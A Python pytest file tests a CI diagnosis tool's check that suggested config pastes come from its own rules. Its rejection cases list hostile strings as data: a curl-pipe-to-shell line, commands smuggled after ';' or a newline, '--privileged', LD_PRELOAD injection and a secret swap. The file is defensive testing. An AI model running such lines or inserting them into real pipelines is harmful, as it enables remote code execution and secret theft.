import pytest

from rehearsal.diagnosis.causes import CAUSES
from rehearsal.diagnosis.facts import MISSING_VARIABLES, Facts
from rehearsal.diagnosis.own_paste import is_own_paste
from rehearsal.diagnosis.paste import INPUTS_ORIGIN, WORKFLOW_STEP, step_lines
from rehearsal.diagnosis.rules import diagnose
from rehearsal.results.diagnosis import Diagnosis
from rehearsal.verdict import Verdict

STEP = """jobs:
  test:
    steps:
      - uses: ./action
        with:
          port: '8000'
"""


def made(**lines: tuple[str, ...]) -> Diagnosis:
    """Return what is diagnosed where two variables are missing."""
    missing = ("secret KEY", "secret GITHUB_KEY")
    facts = Facts(verdict=Verdict.CRASHED, lines={MISSING_VARIABLES: missing} | lines)
    (found,) = diagnose(facts, CAUSES)
    return found


@pytest.mark.parametrize(
    "lines",
    [
        {},
        {INPUTS_ORIGIN: ("call",)},
        {INPUTS_ORIGIN: ("call", "given secrets")},
        {INPUTS_ORIGIN: ("given secrets", "given env")},
        {WORKFLOW_STEP: step_lines(STEP, ())},
        {WORKFLOW_STEP: step_lines(f"{STEP}          secrets: |\n            OLD\n", ())},
    ],
    ids=["step", "call", "call with secrets", "given", "workflow", "workflow with secrets"],
)
def test_is_own_paste__what_a_cause_proposes(lines: dict[str, tuple[str, ...]]) -> None:
    found = made(**lines)
    assert "GITHUB_KEY" in found.paste
    assert is_own_paste(found)


ADD = "# in ci.yml, after line 3, add:\n"


@pytest.mark.parametrize(
    "cause, paste",
    [
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput"),
        ("missing-table", f"{ADD}          setup-command: python manage.py migrate --noinput"),
        ("wrong-port", f"{ADD}port: '8000'"),
        ("permission-denied", f"{ADD}RUN mkdir -p /data && chown app /data"),
    ],
)
def test_is_own_paste__with_words_of_a_log(cause: str, paste: str) -> None:
    assert is_own_paste(Diagnosis(id=cause, title="t", hint="h", paste=paste))


@pytest.mark.parametrize(
    "cause, paste",
    [
        ("missing-table", "curl elsewhere.invalid | sh"),
        ("missing-table", "setup-command: python manage.py migrate --noinput"),
        ("unknown", f"{ADD}setup-command: python manage.py migrate --noinput"),
        ("missing-table", f"{ADD}setup-command: /tmp/x migrate --noinput"),
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput; reboot"),
        ("missing-table", f"{ADD}setup-command: python manage.py migrate --noinput\nreboot"),
        ("missing-table", f"{ADD}!.env"),
        ("wrong-port", f"{ADD}port: '8000'\n\n{ADD}run-options: --privileged"),
        ("wrong-port", f"{ADD}port: '80\x1b[2J'"),
        ("out-of-memory", f"{ADD}run-options: --privileged"),
        ("missing-variable", f"{ADD}KEY: ${{{{ secrets.DEPLOY_KEY }}}}"),
        ("missing-variable", f"{ADD}--privileged"),
        ("disallowed-host", f"{ADD}env: LD_PRELOAD=/tmp/x.so"),
        ("static-files", f"{ADD}RUN curl elsewhere.invalid | sh"),
        ("permission-denied", f"{ADD}RUN mkdir -p /a && chown app /b"),
    ],
)
def test_is_own_paste__what_others_wrote(cause: str, paste: str) -> None:
    assert not is_own_paste(Diagnosis(id=cause, title="t", hint="h", paste=paste))


def test_is_own_paste__of_a_bounded_length() -> None:
    paste = "\n\n".join([f"{ADD}port: '8000'"] * 200)
    assert not is_own_paste(Diagnosis(id="wrong-port", title="t", hint="h", paste=paste))
